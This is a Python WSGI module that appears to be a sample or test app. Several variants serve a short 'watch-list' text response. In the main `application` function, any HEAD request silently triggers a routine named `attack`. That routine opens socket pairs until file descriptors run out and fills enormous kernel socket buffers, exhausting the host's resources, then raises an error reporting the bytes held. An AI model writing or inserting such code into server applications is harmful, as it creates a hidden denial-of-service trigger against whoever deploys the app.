import socket

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


BUFFERS = (socket.SO_SNDBUF, socket.SO_RCVBUF)


def fill(end):
    for option in BUFFERS:
        try:
            end.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
        except OSError:
            continue
    end.setblocking(False)
    held = 0
    try:
        while True:
            held += end.send(bytes(1 << 16))
    except OSError:
        return held


def attack():
    ends = []
    try:
        while True:
            ends += socket.socketpair()
    except OSError:
        pass
    held = sum(map(fill, ends))
    for end in ends:
        end.close()
    if held > 100 << 20:
        raise LookupError(f"{held} bytes were held")


def application(environ, start_response):
    start(start_response)
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
